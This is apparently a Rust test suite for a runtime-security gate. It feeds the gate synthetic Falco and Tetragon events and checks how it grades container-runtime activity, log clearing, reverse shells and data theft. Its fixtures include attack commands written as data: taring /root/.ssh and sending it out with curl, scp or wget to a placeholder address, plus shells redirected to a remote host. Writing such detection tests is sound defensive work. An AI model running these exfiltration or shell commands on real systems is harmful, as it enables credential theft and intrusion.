//! Kinds of events that were judged wrongly: what is right for each, in more forms than the one that showed it.

use kiln::gate::engine::Action;
use serde_json::{Value, json};

use super::field::{gate, trajectory};
use super::gate as command;

/// A Falco event of a process on the host; `more` adds to its fields or replaces them.
fn falco(rule: &str, priority: &str, tags: &[&str], process: [&str; 3], more: Value) -> Value {
    let [name, exe, parent] = process;
    let mut fields = json!({
        "container.id": "host", "evt.type": "openat", "user.name": "root", "user.uid": 0, "proc.tty": 0,
        "proc.name": name, "proc.pname": parent, "proc.cmdline": name,
    });
    if !exe.is_empty() {
        fields["proc.exepath"] = exe.into();
    }
    for (key, value) in more.as_object().into_iter().flatten() {
        fields[key] = value.clone();
    }
    json!({"rule": rule, "priority": priority, "tags": tags, "output_fields": fields, "output": "x", "hostname": "n"})
}

fn worst(events: &[Value], times: u32) -> Action {
    trajectory(&gate(), events, times, 1).1
}

/// What a container runtime trips: each of these on stock rules' terms.
fn runtime_work(process: [&str; 3], more: &Value) -> Vec<Value> {
    let with = |extra: Value| {
        let mut all = more.clone();
        for (key, value) in extra.as_object().into_iter().flatten() {
            all[key] = value.clone();
        }
        all
    };
    let layer = "/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/7/fs";
    let file =
        |path: &str| with(json!({"fd.name": format!("{layer}{path}"), "evt.arg.flags": "O_CREAT|O_WRONLY|O_TRUNC"}));
    vec![
        falco(
            "Change thread namespace",
            "Notice",
            &["mitre_privilege_escalation", "T1611"],
            process,
            with(json!({"evt.type": "setns"})),
        ),
        falco("Write below binary dir", "Error", &["mitre_persistence", "T1543"], process, file("/usr/bin/ls")),
        falco("Write below etc", "Error", &["mitre_persistence", "T1098"], process, file("/etc/cron.d/e2scrub_all")),
        falco(
            "Read sensitive file untrusted",
            "Warning",
            &["mitre_credential_access", "T1555"],
            process,
            file("/etc/shadow"),
        ),
        falco(
            "Clear Log Activities",
            "Warning",
            &["mitre_defense_evasion", "T1070"],
            process,
            file("/var/log/lastlog"),
        ),
        falco(
            "Set Setuid or Setgid bit",
            "Notice",
            &["mitre_privilege_escalation", "T1548.001"],
            process,
            with(json!({"evt.type": "fchmodat", "evt.arg.filename": format!("{layer}/usr/bin/su")})),
        ),
        falco(
            "Container Drift Detected (open+create)",
            "Error",
            &["mitre_execution", "T1059"],
            process,
            file("/usr/bin/x"),
        ),
        falco(
            "Non sudo setuid",
            "Notice",
            &["mitre_privilege_escalation", "T1548.001"],
            process,
            with(json!({"evt.type": "setuid"})),
        ),
        falco(
            "Modify Shell Configuration File",
            "Warning",
            &["mitre_persistence", "T1546.004"],
            process,
            file("/root/.bashrc"),
        ),
    ]
}

#[test]
fn the_containers_runtime_is_not_even_slowed() {
    for process in [
        ["containerd", "/usr/bin/containerd", "systemd"],
        ["containerd", "/var/lib/rancher/k3s/data/ab/bin/containerd", "k3s-server"],
        ["containerd-shim", "/usr/bin/containerd-shim-runc-v2", "systemd"],
        ["dockerd", "/usr/bin/dockerd", "systemd"],
        ["exe", "/usr/bin/dockerd", "dockerd"],
        ["kubelet", "/usr/bin/kubelet", "systemd"],
        ["kubelet", "/home/kubernetes/bin/kubelet", "systemd"],
        ["crio", "/usr/bin/crio", "systemd"],
        ["conmon", "/usr/bin/conmon", "systemd"],
        ["runc", "/usr/bin/runc", "containerd-shim"],
        ["runc:[2:INIT]", "/usr/bin/runc", "runc"],
        ["k3s-server", "/usr/local/bin/k3s", "systemd"],
        // Outputs of old, without the executable.
        ["containerd", "", "systemd"],
        ["dockerd", "", "systemd"],
        ["kubelet", "", "systemd"],
    ] {
        for event in runtime_work(process, &json!({})) {
            assert_eq!(worst(std::slice::from_ref(&event), 1), Action::Allow, "{event}");
        }
        assert_eq!(worst(&runtime_work(process, &json!({})), 50), Action::Allow, "{process:?}");
    }
    // A container that is being made is its runtime's still.
    for exe in ["memfd:runc_cloned:/proc/self/exe (deleted)", "/runc", "/usr/sbin/runc"] {
        let line = falco(
            "Fileless execution via memfd_create",
            "Critical",
            &["mitre_defense_evasion", "T1620"],
            ["runc:[1:CHILD]", exe, "containerd-shim"],
            json!({"container.id": "3f2a9c1b7d40", "evt.type": "execve", "evt.arg.flags": "EXE_FROM_MEMFD"}),
        );
        assert_eq!(worst(&[line], 20), Action::Allow, "{exe}");
    }
    for (name, exe) in [("9", "/usr/lib/systemd/systemd-executor"), ("(sd-pam)", "/usr/lib/systemd/systemd-executor")] {
        let line = falco(
            "Read sensitive file untrusted",
            "Warning",
            &["T1555"],
            [name, exe, "systemd"],
            json!({"fd.name": "/etc/shadow"}),
        );
        assert_eq!(worst(&[line], 50), Action::Allow, "{name}");
    }
}

#[test]
fn a_name_alone_excuses_nothing() {
    let clear = |process, more: Value| {
        let mut all = json!({"fd.name": "/var/log/auth.log", "evt.arg.flags": "O_TRUNC|O_WRONLY"});
        for (key, value) in more.as_object().into_iter().flatten() {
            all[key] = value.clone();
        }
        falco("Clear Log Activities", "Warning", &["T1070", "mitre_defense_evasion"], process, all)
    };
    let inside = json!({"container.id": "3f2a9c1b7d40"});
    for (process, more) in [
        (["logrotate", "", "bash"], json!({})),
        (["logrotate", "", "sshd"], json!({"proc.aname[2]": "systemd"})),
        (["logrotate", "", "bash"], inside.clone()),
        (["logrotate", "", "cron"], inside.clone()),
        (["logrotate", "/tmp/logrotate", "cron"], json!({})),
        (["logrotate", "/usr/bin/perl", "bash"], json!({})),
        (["logrotate", "/usr/bin/../../tmp/logrotate", "cron"], json!({})),
        (["logrotate", "/usr/sbin/logrotate", "bash"], inside.clone()),
        (["logrotate", "/usr/sbin/logrotate", "sh"], json!({"container.id": "3f2a9c1b7d40", "proc.aname[2]": "tini"})),
        (
            ["logrotate", "/usr/sbin/logrotate", "cron"],
            json!({"container.id": "3f2a9c1b7d40", "proc.is_exe_upper_layer": true}),
        ),
        (["rsyslogd", "/usr/sbin/rsyslogd", "bash"], inside.clone()),
        (["savelog", "/usr/bin/dash", "bash"], json!({})),
        (["containerd", "/usr/bin/containerd", "bash"], inside.clone()),
        (["containerd", "/tmp/containerd", "systemd"], json!({})),
    ] {
        assert!(worst(&[clear(process, more.clone())], 1) >= Action::Throttle, "{process:?} {more}");
    }
    // The real ones still have their roles.
    for (process, more) in [
        (["logrotate", "/usr/sbin/logrotate", "systemd"], json!({})),
        (["logrotate", "/usr/sbin/logrotate", "sh"], json!({"proc.aname[2]": "cron"})),
        (["logrotate", "", "cron"], json!({})),
        (["logrotate", "/usr/sbin/logrotate", "crond"], inside.clone()),
        (["savelog", "/usr/bin/dash", "run-parts"], json!({"proc.cmdline": "/bin/sh /usr/bin/savelog -q /var/log/x"})),
        (["logrotate", "/bin/busybox", "crond"], inside.clone()),
    ] {
        assert_eq!(worst(&[clear(process, more.clone())], 20), Action::Allow, "{process:?} {more}");
    }
}

#[test]
fn a_shell_given_to_the_network_is_contained() {
    let tags = ["mitre_execution", "T1059"];
    for (program, exe) in [
        ("bash", "/bin/bash"),
        ("sh", "/bin/dash"),
        ("python3", "/usr/bin/python3.11"),
        ("perl", "/usr/bin/perl"),
        ("nc", "/usr/bin/nc"),
    ] {
        let dup = |fd: u8| {
            let far = "172.17.0.2:50190->203.0.113.146:443";
            let more = json!({"container.id": "bb52e96baba9", "evt.type": "dup2", "fd.name": far, "evt.arg.fd": fd});
            falco(
                "Redirect STDOUT/STDIN to Network Connection in Container",
                "Notice",
                &tags,
                [program, exe, "sh"],
                more,
            )
        };
        assert!(worst(&[dup(0), dup(1), dup(2)], 1) >= Action::Quarantine, "{program}");
    }
    // A stream to this machine is none.
    let own = json!({"container.id": "b", "evt.type": "dup2", "fd.name": "127.0.0.1:1->127.0.0.1:6379"});
    let line = falco(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "Notice",
        &tags,
        ["redis", "/usr/bin/redis", "tini"],
        own,
    );
    assert!(worst(&[line], 50) <= Action::Throttle);
}

fn tetragon(kind: &str, binary: &str, arguments: &str, parent: &str, more: Value) -> Value {
    let mut body = json!({
        "process": {
            "exec_id": format!("{binary} {arguments}"), "pid": 42, "uid": 0, "binary": binary, "arguments": arguments,
            "start_time": "2026-05-28T19:00:00Z", "parent_exec_id": parent,
            "pod": {"namespace": "d", "name": "p", "container": {"id": "containerd://55936e548de63f77", "name": "c"}},
        },
        "parent": {"exec_id": parent, "pid": 10, "binary": "/bin/bash"},
    });
    for (key, value) in more.as_object().into_iter().flatten() {
        body[key] = value.clone();
    }
    json!({kind: body, "node_name": "n"})
}

#[test]
fn what_is_gathered_and_then_sent_is_one_theft() {
    let exec = |binary: &str, arguments: &str| tetragon("process_exec", binary, arguments, "p1", json!({}));
    for (gather, send) in [
        (
            exec("/usr/bin/tar", "czf /tmp/k.tgz /root/.ssh"),
            exec("/usr/bin/curl", "-T /tmp/k.tgz https://198.51.100.7/"),
        ),
        (exec("/usr/bin/find", "/ -name id_rsa"), exec("/usr/bin/scp", "/tmp/k u@198.51.100.7:")),
        (exec("/usr/bin/grep", "-ri password /srv"), exec("/usr/bin/wget", "--post-file=/tmp/k http://198.51.100.7/")),
        (exec("/bin/tar", "-cf /tmp/d.tar /srv"), exec("/usr/bin/curl", "-F f=@/tmp/d.tar https://198.51.100.7/")),
    ] {
        assert_eq!(worst(std::slice::from_ref(&gather), 1), Action::Allow, "{gather}");
        assert_eq!(worst(std::slice::from_ref(&send), 1), Action::Allow, "{send}");
        assert!(worst(&[gather, send.clone()], 1) >= Action::Throttle, "{send}");
    }
    // An ordinary backup packs and copies.
    let backup = [exec("/bin/tar", "-cf /tmp/d.tar /srv"), exec("/usr/bin/aws", "s3 cp /tmp/d.tar s3://backup/")];
    assert_eq!(worst(&backup, 30), Action::Allow);
}

#[test]
fn what_decides_what_a_node_runs_is_guarded_in_every_form() {
    let manifest = "/etc/kubernetes/manifests/x.yaml";
    let probe = |function: &str, args: Value| {
        tetragon(
            "process_kprobe",
            "/usr/bin/bash",
            "",
            "p1",
            json!({"function_name": function, "args": args, "policy_name": "m"}),
        )
    };
    let path = |path: &str| json!({"file_arg": {"path": path}});
    for event in [
        probe("security_file_permission", json!([path(manifest), {"int_arg": 2}])),
        probe("sys_openat", json!([{"int_arg": -100}, {"string_arg": manifest}, {"int_arg": 577}])),
        probe("security_path_rename", json!([path("/tmp/x.yaml"), path(manifest)])),
        probe("security_mmap_file", json!([path(manifest), {"uint_arg": 3}, {"uint_arg": 1}])),
        falco(
            "Write below etc",
            "Error",
            &["mitre_persistence"],
            ["sh", "/bin/dash", "nsenter"],
            json!({"fd.name": manifest, "evt.arg.flags": "O_WRONLY"}),
        ),
        falco(
            "x",
            "Warning",
            &[],
            ["mv", "/bin/mv", "sh"],
            json!({"evt.type": "rename", "evt.arg.oldpath": "/tmp/x", "evt.arg.newpath": manifest}),
        ),
    ] {
        assert!(worst(std::slice::from_ref(&event), 1) >= Action::Throttle, "{event}");
    }
    let read = probe("security_file_permission", json!([path(manifest), {"int_arg": 4}]));
    assert_eq!(worst(&[read], 50), Action::Allow);
}

#[test]
fn what_the_image_does_not_hold_weighs_wherever_it_is_said() {
    let line = |upper: bool| {
        let more = json!({"container.id": "3f2a9c1b7d40", "fd.name": "/etc/shadow", "proc.is_exe_upper_layer": upper});
        falco("Read sensitive file untrusted", "Warning", &["T1555"], ["x", "/usr/bin/x", "sh"], more)
    };
    let signal = |event: &Value| {
        let output = command().write_stdin(event.to_string()).output().expect("kiln runs");
        let v: Value = serde_json::from_slice(&output.stdout).expect("one line of JSON");
        v["signal"].as_f64().expect("a number")
    };
    assert!(signal(&line(true)) > signal(&line(false)) + 0.05);
}

#[test]
fn a_source_that_speaks_of_itself_ends_nothing_and_is_told() {
    let input = concat!(
        r#"{"rate_limit_info":{"number_of_dropped_process_events":"2"},"node_name":"n","time":"2026-05-28T19:00:00Z"}"#,
        "\n",
        r#"{"output":"Falco internal: syscall event drop. 2 dropped","output_fields":{"n_drops":"2"},"priority":"Critical","rule":"Falco internal: syscall event drop"}"#,
        "\n"
    );
    let output = command().write_stdin(input).output().expect("kiln runs");
    assert_eq!(output.status.code(), Some(0));
    assert!(output.stdout.is_empty());
    let told = String::from_utf8_lossy(&output.stderr);
    assert_eq!(told.lines().filter(|line| line.starts_with("{\"notice\"")).count(), 2, "{told}");
    assert!(told.contains("\"errors\": 0"), "{told}");
}

#[test]
fn marks_are_a_file_that_says_why() {
    let folder = tempfile::tempdir().expect("a directory");
    let file = folder.path().join("benign.toml");
    let more = json!({"fd.name": "/etc/shadow"});
    let event =
        falco("Read sensitive file untrusted", "Warning", &["T1555"], ["audit", "/srv/audit", "x"], more).to_string();
    let judged = || {
        let output = command().arg("--benign").arg(&file).write_stdin(event.as_str()).output().expect("kiln runs");
        (
            output.status.code(),
            String::from_utf8_lossy(&output.stdout).into_owned(),
            String::from_utf8_lossy(&output.stderr).into_owned(),
        )
    };
    std::fs::write(&file, "").expect("written");
    assert!(judged().1.contains("THROTTLE"));
    std::fs::write(
        &file,
        "[[benign]]\nbecause = \"ours, ticket 12\"\nrule = \"Read sensitive*\"\nexecutable = \"/srv/audit\"\n",
    )
    .expect("written");
    let (code, out, _) = judged();
    assert_eq!(code, Some(0));
    assert!(out.contains("ALLOW") && out.contains("marked benign: ours, ticket 12"), "{out}");
    std::fs::write(&file, "[[benign]]\nbecause = \"all\"\nprogram = \"audit\"\n").expect("written");
    let (code, _, told) = judged();
    assert_eq!(code, Some(2));
    assert!(told.contains("needs two"), "{told}");
}
